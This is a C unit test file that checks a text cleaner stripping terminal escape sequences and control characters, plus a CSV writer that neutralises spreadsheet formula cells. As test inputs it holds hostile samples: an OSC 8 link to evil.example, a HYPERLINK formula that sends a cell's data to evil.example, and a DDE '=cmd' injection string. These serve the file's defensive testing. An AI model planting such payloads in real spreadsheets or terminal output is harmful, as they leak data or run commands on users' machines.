/* test_text.c - outside text made fit to keep and show, and CSV cells for people (R4, R5, section 6). */
#include "capture/mime.h"
#include "util/csv.h"
#include "util/text.h"

#include <string.h>

static void clean(const char *in, gsize max, const char *want)
{
  g_autofree char *got = kith_text_clean(in, max);
  if (g_strcmp0(got, want) != 0)
    g_error("kith_text_clean(%s): got '%s', want '%s'", g_strescape(in ? in : "(null)", NULL), got,
            want);
  g_assert_true(g_utf8_validate(got, -1, NULL));
}

/* No byte of S is a C0 or C1 control or DEL. */
static void assert_no_controls(const char *s)
{
  for (const char *p = s; *p; p = g_utf8_next_char(p))
    g_assert_false(kith_text_is_control(g_utf8_get_char(p)));
}

/* CSI (ESC [ ... final), OSC (ESC ] ... BEL or ST), ESC and one character,
 * and their one-character C1 forms go whole, parameters and all. */
static void test_text_escape_sequences_removed(void)
{
  clean("\x1b[31mHead of Operations\x1b[0m", 256, "Head of Operations");
  clean("Head of Operations\x1b[1;31m", 256, "Head of Operations");
  clean("\x1b]0;owned\x07Jane", 256, "Jane");
  clean("\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\", 256, "link");
  clean("\x1b"
        "cReset",
        256, "Reset");
  clean("\x1b(BText", 256, "Text");
  clean("\xc2\x9b"
        "31mRed",
        256, "Red");
  clean("\xc2\x9d"
        "0;x\xc2\x9cok",
        256, "ok");
  clean("\x1bP1$r\x1b\\Ok", 256, "Ok");
  clean("\xc2\x9f"
        "apc\xc2\x9c"
        "Ok",
        256, "Ok");
  /* cut short at the end: the rest is the sequence's */
  clean("VP\x1b[3", 256, "VP");
  clean("VP\x1b]0;evil", 256, "VP");
  clean("VP\x1b", 256, "VP");
  /* a CSI stops at the first byte that cannot be in it */
  clean("a\x1b[3\xc3\xa9"
        "b",
        256,
        "a\xc3\xa9"
        "b");
  /* an escape between words joins nothing and splits nothing */
  clean("Sales \x1b[1mDirector", 256, "Sales Director");
}

/* Other controls are white space; runs of white space are one space. */
static void test_text_controls_are_space(void)
{
  clean("Sales\x01"
        "Director",
        256, "Sales Director");
  clean("a\x7f"
        "b",
        256, "a b");
  clean("a\xc2\x85"
        "b",
        256, "a b"); /* NEL */
  clean("a\xc2\x80\xc2\x94"
        "b",
        256, "a b");
  clean("  Jane\t\r\n  Doe \x0b", 256, "Jane Doe");
  clean("Jane\xc2\xa0\xe2\x80\xa8"
        "Doe",
        256, "Jane Doe"); /* no-break space, line separator */
  clean("\x01\x02\x1b[0m ", 256, "");
  clean(NULL, 256, "");
  clean("Zo\xc3\xab \xe6\x9d\x8e", 256, "Zo\xc3\xab \xe6\x9d\x8e");
}

/* Bad UTF-8 becomes U+FFFD; the cut falls on a character boundary. */
static void test_text_utf8_and_bounds(void)
{
  clean("Jos\xe9", 256, "Jos\xef\xbf\xbd");
  clean("a\xc3\xa9", 2, "a");
  clean("a\xc3\xa9", 3, "a\xc3\xa9");
  clean("ab cd", 3, "ab");
  clean("abc", 0, "");
  clean(" a b ", G_MAXSIZE, "a b");
  /* a long escape does not count against the bound */
  g_autofree char *osc_body = g_strnfill(5000, 'x');
  g_autofree char *long_osc = g_strconcat("\x1b]0;", osc_body, "\x07Jane Doe", NULL);
  clean(long_osc, 16, "Jane Doe");
  g_autofree char *long_text = g_strnfill(100000, 'y');
  g_autofree char *cut = kith_text_clean(long_text, 998);
  g_assert_cmpuint(strlen(cut), ==, 998);
}

/* The capture's cleaner is this one: ids, subjects and names lose escapes too. */
static void test_text_capture_clean_text_uses_it(void)
{
  g_autofree char *subject = kith_capture_clean_text("Re: \x1b[2J\x1b[Hpricing\xc2\x9b"
                                                     "5m",
                                                     4096);
  g_assert_cmpstr(subject, ==, "Re: pricing");
  g_autofree char *id = kith_capture_clean_text(" uid\x01"
                                                "1 ",
                                                998);
  g_assert_cmpstr(id, ==, "uid 1");
  g_autofree char *none = kith_capture_clean_text(NULL, 10);
  g_assert_cmpstr(none, ==, "");
  g_autofree char *cut = kith_capture_clean_text("Zo\xc3\xab", 3);
  g_assert_cmpstr(cut, ==, "Zo");
}

/* The printer's last defence: every control but the line breaks CSV and
 * JSON can carry is U+FFFD; on one line, those breaks are spaces. */
static void test_text_printable(void)
{
  g_autofree char *copy = NULL;
  const char *plain = "Jane Doe";
  g_assert_true(kith_text_printable(&copy, plain, KITH_TEXT_BREAKS_AS_SPACES) == plain);
  g_assert_null(copy);
  const char *shown = kith_text_printable(&copy, "a\x1b[31mb\tc\r\nd\xc2\x9b",
                                          KITH_TEXT_BREAKS_KEPT);
  g_assert_cmpstr(shown, ==, "a\xef\xbf\xbd[31mb\tc\r\nd\xef\xbf\xbd");
  g_assert_true(shown == copy);
  g_clear_pointer(&copy, g_free);
  shown = kith_text_printable(&copy, "a\x1b]0;x\x07\tb\n", KITH_TEXT_BREAKS_AS_SPACES);
  g_assert_cmpstr(shown, ==, "a\xef\xbf\xbd]0;x\xef\xbf\xbd b ");
  assert_no_controls(shown);
  g_clear_pointer(&copy, g_free);
  shown = kith_text_printable(&copy, "Jos\xe9", KITH_TEXT_BREAKS_KEPT);
  g_assert_cmpstr(shown, ==, "Jos\xef\xbf\xbd");
}

static char *field(const char *value, kith_csv_cells cells)
{
  GString *out = g_string_new(NULL);
  kith_csv_append_field(out, value, cells);
  return g_string_free(out, FALSE);
}

static void cell(const char *value, kith_csv_cells cells, const char *want)
{
  g_autofree char *got = field(value, cells);
  g_assert_cmpstr(got, ==, want);
}

/* Section 6: CSV for people puts ' before a field beginning with =, +, -,
 * @, a tab or a carriage return; RFC 4180 quoting comes after. */
static void test_csv_s6_formula_prefix(void)
{
  cell("=1+1", KITH_CSV_SPREADSHEET_SAFE, "'=1+1");
  cell("+1 555 0100", KITH_CSV_SPREADSHEET_SAFE, "'+1 555 0100");
  cell("-5", KITH_CSV_SPREADSHEET_SAFE, "'-5");
  cell("@SUM(A1)", KITH_CSV_SPREADSHEET_SAFE, "'@SUM(A1)");
  cell("\t=1", KITH_CSV_SPREADSHEET_SAFE, "'\t=1");
  cell("\r=1", KITH_CSV_SPREADSHEET_SAFE, "\"'\r=1\"");
  cell("=HYPERLINK(\"http://evil.example/?\"&C2,\"Open\")", KITH_CSV_SPREADSHEET_SAFE,
       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&C2,\"\"Open\"\")\"");
  cell("=cmd|' /C calc'!A0", KITH_CSV_SPREADSHEET_SAFE, "'=cmd|' /C calc'!A0");
  /* only the first character counts */
  cell("a=b", KITH_CSV_SPREADSHEET_SAFE, "a=b");
  cell("jane-doe@acme.com", KITH_CSV_SPREADSHEET_SAFE, "jane-doe@acme.com");
  cell("'quoted", KITH_CSV_SPREADSHEET_SAFE, "'quoted");
  cell("", KITH_CSV_SPREADSHEET_SAFE, "");
  cell(NULL, KITH_CSV_SPREADSHEET_SAFE, "");
}

/* crm export writes every value as stored: RFC 4180 and nothing more. */
static void test_csv_s6_export_verbatim(void)
{
  cell("=1+1", KITH_CSV_VERBATIM, "=1+1");
  cell("-5", KITH_CSV_VERBATIM, "-5");
  cell("\t=1", KITH_CSV_VERBATIM, "\"\t=1\"");
  cell("tab\t", KITH_CSV_VERBATIM, "\"tab\t\"");
  cell("=HYPERLINK(\"x\",\"y\")", KITH_CSV_VERBATIM, "\"=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
  cell("Contoso, Ltd", KITH_CSV_VERBATIM, "\"Contoso, Ltd\"");
  cell("two\r\nlines", KITH_CSV_VERBATIM, "\"two\r\nlines\"");
  cell(" edge ", KITH_CSV_VERBATIM, "\" edge \"");
  cell("plain", KITH_CSV_VERBATIM, "plain");
}

static void test_csv_s6_row(void)
{
  const char *values[] = {"=a", NULL, "b,c"};
  g_autoptr(GString) out = g_string_new(NULL);
  kith_csv_append_row(out, values, 3, KITH_CSV_SPREADSHEET_SAFE);
  g_assert_cmpstr(out->str, ==, "'=a,,\"b,c\"\r\n");
  g_string_truncate(out, 0);
  kith_csv_append_row(out, values, 3, KITH_CSV_VERBATIM);
  g_assert_cmpstr(out->str, ==, "=a,,\"b,c\"\r\n");
}

int main(int argc, char **argv)
{
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/text/escape_sequences_removed", test_text_escape_sequences_removed);
  g_test_add_func("/text/controls_are_space", test_text_controls_are_space);
  g_test_add_func("/text/utf8_and_bounds", test_text_utf8_and_bounds);
  g_test_add_func("/text/capture_clean_text_uses_it", test_text_capture_clean_text_uses_it);
  g_test_add_func("/text/printable", test_text_printable);
  g_test_add_func("/csv/s6_formula_prefix", test_csv_s6_formula_prefix);
  g_test_add_func("/csv/s6_export_verbatim", test_csv_s6_export_verbatim);
  g_test_add_func("/csv/s6_row", test_csv_s6_row);
  return g_test_run();
}
